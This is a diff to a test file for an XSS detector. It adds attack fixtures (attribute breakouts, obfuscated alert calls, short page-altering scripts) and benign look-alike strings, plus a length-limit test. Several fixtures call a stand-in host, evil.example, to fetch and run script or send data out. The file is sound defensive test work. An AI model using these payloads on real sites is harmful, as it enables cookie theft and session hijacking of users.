@@ -1,6 +1,10 @@
 // The contexts one by one, and texts that look like attacks and are none.
 import { describe, expect, it } from 'vitest';
-import { CLIENT_TEMPLATE_BYTES_MAX, MARKUP_REREADS_MAX } from '../../../../src/core/limits.ts';
+import {
+  CLIENT_TEMPLATE_BYTES_MAX,
+  MARKUP_REREADS_MAX,
+  SCRIPT_SHORT_BYTES_MAX,
+} from '../../../../src/core/limits.ts';
 import { detectXss } from '../../../../src/detect/html/detect-xss.ts';
 import { markupRuns } from '../../../../src/detect/html/markup.ts';
 
@@ -58,6 +62,8 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '<p title="&lt;img src=x onerror=alert(1)&gt;">',
   ],
   'attributes behind a quote': [
+    '" onfocus=steal autofocus x="',
+    "' autofocus onfocus=steal x='",
     '" autofocus onfocus=alert(1) x="',
     "x' onclick='alert(1)",
     '"/onclick=alert(1)//',
@@ -99,6 +105,28 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     'String.fromCharCode(88,83,83)',
     "document.write('x')",
     "location='javascript:alert(1)'",
+    "location='javas' + 'cript:f(1)'",
+    'window.onload=alert',
+    'toString=alert',
+    '(((confirm)))``',
+    "top[atob('YQ==')](1)",
+    'import(/\\\\evil.example/.source)',
+    "A='',B=!A+A,C=!B+A,D=A+{}",
+    '([,\u00ed,,]=[]+{},[\u00ec]=!\u00ed+\u00ed)',
+  ],
+  'short scripts as whole values': [
+    "document['write']('x')",
+    "document.body.innerHTML='x'",
+    "document.cookie='a=b'",
+    "document.body.setAttribute('on' + 'click', 'f()')",
+    "open('//evil.example')",
+    "fetch('https://evil.example/?' + f(1))",
+    "$.ajax({url: '//evil.example', dataType: 'script'})",
+    "var a='al',b='ert';window[a+b](1)",
+    'for(i in self)if(/^ale/.test(i))self[i](1)',
+    '({alert:a}=window),a(1)',
+    'self.print()',
+    "trustedTypes.createPolicy('default',{createHTML:x=>f(x)})",
   ],
   'templates of client frameworks': [
     "{{constructor.constructor('alert(1)')()}}",
@@ -171,6 +199,15 @@ const ORDINARY: Readonly<Record<string, readonly string[]>> = {
     '{{name}} {{ user.name }} {{ items | json }}',
     '[[Wiki link]] [a](https://example.com)',
     'String.fromCharCode(code + 32)',
+    "document.querySelector('#a').value",
+    "localStorage.getItem('a')",
+    "fetch('/api/users').then(f)",
+    "background: url('https://example.com/a.png')",
+    "{confirm: t('yes'), prompt: t('no')}",
+    'this[name](1)',
+    "'java' + 'doc' + f(1)",
+    '!a && b + f(1)',
+    'el.onclick = handler',
     '<b v-if="shown" :key="id">x</b>',
     'https://example.com/?a=b&c=d:(e)',
     'swal.alert("x")',
@@ -202,4 +239,11 @@ it(`reads ${CLIENT_TEMPLATE_BYTES_MAX} bytes of an expression`, () => {
   const expression = (before: number): string => `{{${'x '.repeat(before / 2)}.constructor.constructor(1)}}`;
   expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX / 2))).toBe(true);
   expect(detectXss(expression(CLIENT_TEMPLATE_BYTES_MAX))).toBe(false);
+});
+
+it('takes a script that acts on the page for an attack up to the length of one line of code', () => {
+  const script = "document.body.innerHTML='";
+  const padded = (length: number): string => `${script}${'x'.repeat(length - script.length - 1)}'`;
+  expect(detectXss(padded(SCRIPT_SHORT_BYTES_MAX))).toBe(true);
+  expect(detectXss(padded(SCRIPT_SHORT_BYTES_MAX + 1))).toBe(false);
 });
